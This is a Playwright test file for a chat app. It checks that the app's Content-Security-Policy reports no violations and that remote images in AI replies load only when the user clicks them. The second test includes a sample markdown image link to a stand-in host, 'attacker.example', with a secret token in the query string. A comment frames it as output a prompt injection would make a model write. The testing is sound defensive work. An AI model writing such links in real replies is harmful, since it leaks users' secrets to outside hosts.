// security #9 (decision 028): the app runs under its Content-Security-Policy without a single violation,
// and an image the model writes is fetched from its host only when the user opens it.
import type { Page } from "@playwright/test";
import { chatReady, messageBox } from "./chat-support";
import { expect, test } from "./support/fixtures";

/** Records every CSP violation the page reports, from before its first script runs. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = ((window as unknown as { __cspViolations: string[] }).__cspViolations = []);
    document.addEventListener("securitypolicyviolation", (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`),
    );
  });
  const consoleErrors: string[] = [];
  page.on("console", (m) => {
    if (m.type() === "error" && /Content.Security.Policy|Refused to/i.test(m.text())) consoleErrors.push(m.text());
  });
  return async () => [
    ...(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)),
    ...consoleErrors,
  ];
}

test("security #9: the app works under its CSP: chat, control hub, dialogs and toasts report no violation", async ({
  page,
}) => {
  const violations = await watchViolations(page);
  const { agents } = await chatReady(page, { name: "Atlas", description: "Answers questions" });
  const res = await page.goto("/chat");
  const csp = res!.headers()["content-security-policy"]!;
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("script-src 'self';");
  expect(csp).toContain("img-src 'self' data: blob:");

  await messageBox(page).fill("hello under a strict policy");
  await messageBox(page).press("Enter");
  await expect(page.getByText("You said: hello under a strict policy")).toBeVisible();
  // The hub: an agent form saved (a toast), the MCP dialog (Radix portal and scroll lock), providers.
  await page.goto(`/control-hub/agents/${agents[0]!.id}`);
  await page.getByLabel("Name", { exact: true }).fill("Atlas Prime");
  await page.getByRole("button", { name: "Save Changes" }).click();
  await expect(page.getByText("Agent updated successfully!")).toBeVisible();
  await page.getByRole("button", { name: "Add MCP server" }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.goto("/control-hub/providers");
  await expect(page.getByRole("group", { name: "OpenAI", exact: true })).toBeVisible();
  await page.waitForLoadState("networkidle");
  expect(await violations()).toEqual([]);
});

test("security #9: a remote image in a reply is not fetched until the user opens it", async ({ page, context }) => {
  const violations = await watchViolations(page);
  const requests: string[] = [];
  await context.route("https://attacker.example/**", (route) => {
    requests.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "text/plain", body: "got it" });
  });
  await chatReady(page, { name: "Atlas" });
  await page.goto("/chat");
  // The fake provider echoes the prompt, so the reply is the markdown a prompt injection would write.
  await messageBox(page).fill("![chart](https://attacker.example/leak.png?q=secret-token)");
  await messageBox(page).press("Enter");
  const placeholder = page.getByTestId("remote-image");
  await expect(placeholder).toBeVisible();
  await expect(placeholder).toContainText("chart");
  await expect(placeholder).toContainText("(attacker.example)");
  await page.waitForLoadState("networkidle");
  // Reloading renders the stored reply again: still nothing fetched.
  await page.reload();
  await expect(placeholder).toBeVisible();
  await page.waitForLoadState("networkidle");
  expect(requests).toEqual([]);
  expect(await page.locator("img[src*='attacker']").count()).toBe(0);

  const popup = context.waitForEvent("page");
  await placeholder.click();
  await (await popup).waitForLoadState();
  expect(requests).toEqual(["https://attacker.example/leak.png?q=secret-token"]);
  expect(await violations()).toEqual([]);
});
